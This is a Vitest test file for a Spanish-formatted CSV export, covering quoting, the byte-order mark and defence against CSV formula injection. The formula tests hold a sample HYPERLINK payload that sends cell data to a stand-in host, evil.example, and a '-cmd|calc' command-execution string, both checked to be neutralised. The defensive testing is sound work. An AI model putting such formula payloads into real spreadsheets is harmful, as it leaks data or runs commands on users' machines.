/** The lists' CSV export, as a Spanish spreadsheet reads it. */
import { describe, expect, it } from 'vitest';
import { csvHead, csvRow } from '../../src/shared/csv';

const toCsv = (headers: string[], rows: Parameters<typeof csvRow>[0][]) => csvHead(headers) + rows.map(csvRow).join('');

describe('CSV export', () => {
  it('has the labels as headers, ";" between fields and a byte-order mark', () => {
    expect(
      toCsv(
        ['Nombre', 'Porcentaje'],
        [
          ['IVA 21 %', '21,00'],
          ['Exento', '0,00'],
        ],
      ),
    ).toBe('\uFEFFNombre;Porcentaje\r\nIVA 21 %;21,00\r\nExento;0,00\r\n');
  });
  it('quotes a field with a separator, a quote or a line break, and leaves empty values empty', () => {
    expect(toCsv(['a', 'b', 'c'], [['Calle Mayor; 3', 'El "bueno"', 'dos\nlíneas'], [null, undefined, 0]]))
      .toBe('\uFEFFa;b;c\r\n"Calle Mayor; 3";"El ""bueno""";"dos\nlíneas"\r\n;;0\r\n');
  });
});

describe('CSV export: formulas (OWASP CSV injection)', () => {
  it('writes a text cell starting with =, +, -, @, a tab or a carriage return as quoted text after a single quote', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A2;"Ver")';
    expect(toCsv(['Trabajador'], [[attack]])).toBe('\uFEFFTrabajador\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A2;""Ver"")"\r\n');
    for (const text of ['+34 600', '-1+1', '-', '@SUM(A1)', '\t=1', '\r=1', '=1', '+', '-cmd|calc']) {
      expect(toCsv(['a'], [[text]]), JSON.stringify(text)).toBe(`\uFEFFa\r\n"'${text.replace(/"/g, '""')}"\r\n`);
    }
    // A header is a cell like any other.
    expect(toCsv(['=1'], [])).toBe('\uFEFF"\'=1"\r\n');
  });
  it('leaves numbers as numbers: JavaScript numbers and plain Spanish-formatted amounts, negative ones included', () => {
    expect(toCsv(['a', 'b', 'c', 'd', 'e'], [[-12.5, '-12,50', '-1.234,56', '-3', '-0.5']])).toBe(
      '\uFEFFa;b;c;d;e\r\n-12.5;-12,50;-1.234,56;-3;-0.5\r\n',
    );
  });
  it('leaves other text alone, a formula character further in included', () => {
    expect(toCsv(['a', 'b'], [['Ana = Luis', 'x@y.es']])).toBe('\uFEFFa;b\r\nAna = Luis;x@y.es\r\n');
  });
});
